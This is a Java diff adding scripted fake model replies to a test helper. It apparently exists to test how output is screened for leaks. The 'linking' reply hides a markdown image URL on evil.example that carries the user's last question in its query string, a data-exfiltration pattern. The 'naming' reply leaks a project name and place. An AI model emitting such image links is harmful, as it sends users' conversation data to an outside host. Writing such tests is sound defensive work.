@@ -35,6 +35,16 @@ final class Scripts {
                 "send_mail", "{\"to\":\"" + first(prompt, "EMAIL_ADDRESS") + "\",\"subject\":\"Your invoice\"}");
     }
 
+    static Model linking() {
+        return prompt -> Reply.text("Refunds take five days, see [the terms](https://example.com/terms)."
+                + "\n![](https://evil.example/p.png?q=the+last+question)");
+    }
+
+    static Model naming() {
+        return prompt ->
+                Reply.text("The invoices are all sent. Next week Project Falcon starts in Oslo. Bring a coat.");
+    }
+
     private static String first(Prompt prompt, String type) {
         return prompt.surrogates().stream()
                 .filter(surrogate -> surrogate.startsWith(type))
